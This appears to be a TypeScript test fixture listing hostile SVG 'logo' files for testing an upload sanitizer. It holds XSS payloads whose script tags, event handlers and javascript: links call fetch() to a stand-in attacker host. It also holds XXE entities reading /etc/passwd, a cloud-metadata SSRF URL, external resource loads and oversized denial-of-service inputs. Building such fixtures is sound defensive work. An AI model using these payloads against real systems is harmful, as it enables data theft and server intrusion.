import { AWAY } from './hostile-sheets.ts'

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"'
const RECT = '<rect width="20" height="20" fill="#246"/>'
const STEAL = `fetch('${AWAY}/stolen');document.title='stolen'`

const INSIDE = [
  `<script>${STEAL}</script>`,
  `<script href="${AWAY}/1.js"/>`,
  `<script xlink:href="${AWAY}/2.js"/>`,
  `<script type="module">${STEAL}</script>`,
  `<g onload="${STEAL}"/>`,
  `<rect onclick="${STEAL}" onmouseover="${STEAL}" width="20" height="20"/>`,
  `<animate onbegin="${STEAL}" attributeName="x" dur="1s"/>`,
  `<set onbegin="${STEAL}" attributeName="x" to="1"/>`,
  `<image href="${AWAY}/3.png" width="9" height="9"/>`,
  `<image xlink:href="${AWAY}/4.png" width="9" height="9"/>`,
  `<image href="file:///etc/passwd" width="9" height="9"/>`,
  `<image href="http://169.254.169.254/latest/meta-data" width="9" height="9"/>`,
  `<image href="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cscript%3E1%3C/script%3E%3C/svg%3E"/>`,
  `<use href="${AWAY}/5.svg#a"/>`,
  `<use xlink:href="${AWAY}/6.svg#a"/>`,
  `<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`,
  `<a href="javascript:${STEAL}"><rect width="20" height="20"/></a>`,
  `<a xlink:href="javascript:${STEAL}"><text y="9">x</text></a>`,
  `<foreignObject width="20" height="20"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/7"/></foreignObject>`,
  `<foreignObject width="20" height="20"><body xmlns="http://www.w3.org/1999/xhtml" onload="${STEAL}"/></foreignObject>`,
  `<foreignObject width="20" height="20"><img xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/8.png"/></foreignObject>`,
  `<foreignObject width="20" height="20"><form xmlns="http://www.w3.org/1999/xhtml" action="${AWAY}/9"><input/></form></foreignObject>`,
  `<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${AWAY}/10"/></foreignObject>`,
  `<style>@import url(${AWAY}/11.css);</style>`,
  `<style>rect { fill: url(${AWAY}/12.svg#g) }</style>`,
  `<style>@font-face { font-family: x; src: url(${AWAY}/13.woff) } text { font-family: x }</style><text y="9">x</text>`,
  `<rect style="fill:url(${AWAY}/14.svg#g)" width="9" height="9"/>`,
  `<rect filter="url(${AWAY}/15.svg#f)" width="9" height="9"/>`,
  `<rect mask="url(${AWAY}/16.svg#m)" width="9" height="9"/>`,
  `<rect clip-path="url(${AWAY}/17.svg#c)" width="9" height="9"/>`,
  `<filter id="f"><feImage href="${AWAY}/18.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  `<pattern id="p"><image href="${AWAY}/19.png"/></pattern><rect fill="url(#p)" width="9" height="9"/>`,
  `<linearGradient id="g" href="${AWAY}/20.svg#g"/>`,
  `<cursor xlink:href="${AWAY}/21.cur"/>`,
  `<video xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/22.mp4" autoplay="autoplay"/>`,
  `<audio xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/23.mp3" autoplay="autoplay"/>`,
  `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/24"/>`,
  `<object xmlns="http://www.w3.org/1999/xhtml" data="${AWAY}/25"/>`,
  `<embed xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/26"/>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${AWAY}/27.css"/>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="prefetch" href="${AWAY}/28"/>`,
  `<base xmlns="http://www.w3.org/1999/xhtml" href="${AWAY}/"/>`,
  `<animate href="#x" attributeName="href" values="javascript:${STEAL}"/><a id="x"><rect width="9" height="9"/></a>`,
  `<set attributeName="xlink:href" to="javascript:${STEAL}"/>`,
  `<metadata><x xmlns="urn:x">operator</x></metadata>`,
  `<title>\u0000</title>`,
  `<text>${'x'.repeat(100_000)}</text>`,
]

const WHOLE = [
  `<?xml version="1.0"?><?xml-stylesheet href="${AWAY}/a.css"?><svg ${NS}>${RECT}</svg>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${AWAY}/b.xsl"?><svg ${NS}>${RECT}</svg>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${NS}><text>&x;</text></svg>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${AWAY}/c">]><svg ${NS}><text>&x;</text></svg>`,
  `<!DOCTYPE svg SYSTEM "${AWAY}/d.dtd"><svg ${NS}>${RECT}</svg>`,
  `<svg ${NS} onload="${STEAL}">${RECT}</svg>`,
  `<svg ${NS} xml:base="${AWAY}/"><image href="e.png" width="9" height="9"/></svg>`,
  `<svg ${NS}>${RECT}</svg><script>${STEAL}</script>`,
  `<html><svg ${NS}>${RECT}</svg><script>${STEAL}</script></html>`,
  `<svg ${NS}>${'<g>'.repeat(5000)}${RECT}${'</g>'.repeat(5000)}</svg>`,
]

/** Files that are sent as a logo and want something else. */
export const hostileLogos: readonly string[] = [...INSIDE.map((part) => `<svg ${NS}>${RECT}${part}</svg>`), ...WHOLE]
